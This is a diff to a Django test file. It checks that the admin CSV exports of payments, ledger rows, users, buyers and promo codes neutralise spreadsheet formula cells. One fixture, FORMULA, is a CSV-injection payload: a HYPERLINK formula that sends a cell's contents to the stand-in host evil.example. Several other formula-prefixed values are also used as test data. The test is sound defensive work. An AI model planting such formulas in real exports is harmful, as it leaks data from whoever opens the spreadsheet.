@@ -1,4 +1,4 @@
-"""CSV exports of the filtered changelists: payments, ledger rows, buyers and users."""
+"""CSV exports of the filtered changelists: payments, ledger rows, buyers, users and promo codes."""
 
 import csv
 import io
@@ -7,11 +7,12 @@ import pytest
 from django.http import StreamingHttpResponse
 from django.urls import reverse
 
-from core.admin import csv_cell
+from core.admin import FORMULA_PREFIXES, csv_cell
 from payments.ledger import balance_adjust
 from payments.models import Payment
 from tests.admin.conftest import paid_payment
 from tests.payments.factories import PaymentFactory
+from tests.promos.factories import PromoCodeFactory
 from tests.users.factories import StaffUserFactory, UserFactory
 
 pytestmark = pytest.mark.django_db
@@ -145,6 +146,8 @@ def test_the_users_export_streams_in_chunks(admin_client_for, superuser, tariff_
         ("+7", "'+7"),
         ("-x", "'-x"),
         ("@a", "'@a"),
+        ("\tcmd", "'\tcmd"),
+        ("\r=1", "'\r=1"),
         ("plain", "plain"),
         (-5, -5),
         (None, ""),
@@ -176,3 +179,35 @@ def test_a_big_export_is_read_from_the_database_in_chunks(admin_client_for, supe
     # then the first line came before the rest was read, and all rows arrive in the end
     assert first.decode("utf-8-sig").startswith("purchase id,")
     assert sum(chunk.count(b"\n") for chunk in stream) == 4500
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+
+
+def _every_export(client, promo) -> dict[str, object]:
+    return {
+        "promo codes (action)": client.post(
+            reverse("admin:promos_promocode_changelist"), {"action": "export_csv", "_selected_action": [promo.pk]}
+        ),
+        "promo codes (link)": client.get(reverse("admin:promos_promocode_export")),
+        "payments": client.get(PAYMENTS_EXPORT),
+        "ledger": client.get(reverse("admin:payments_ledgerentry_export")),
+        "users": client.get(reverse("admin:users_user_export")),
+        "buyers": client.get(reverse("admin:users_buyer_export")),
+    }
+
+
+def test_every_export_neutralises_cells_a_spreadsheet_would_run(admin_client_for, superuser, tariff_1m):
+    # given a promo code, its description, a buyer's name and a ledger reason that are formulas
+    promo = PromoCodeFactory(code=FORMULA.replace(" ", ""), description="+" + FORMULA, discount_percent=10)
+    buyer = UserFactory(first_name="@" + FORMULA, last_name="-2+3")
+    paid_payment(user=buyer, promo_code=promo.code)
+    balance_adjust(user=buyer, delta=5, reason="\t" + FORMULA, actor=superuser)
+
+    exports = {name: csv_rows(response) for name, response in _every_export(admin_client_for(superuser), promo).items()}
+
+    for name, rows in exports.items():
+        cells = [cell for row in rows[1:] for cell in row]
+        assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)], name
+        assert any(cell.startswith("'") and "HYPERLINK" in cell for cell in cells), name
+    assert exports["promo codes (action)"][1][:2] == ["'" + promo.code, "'+" + FORMULA]
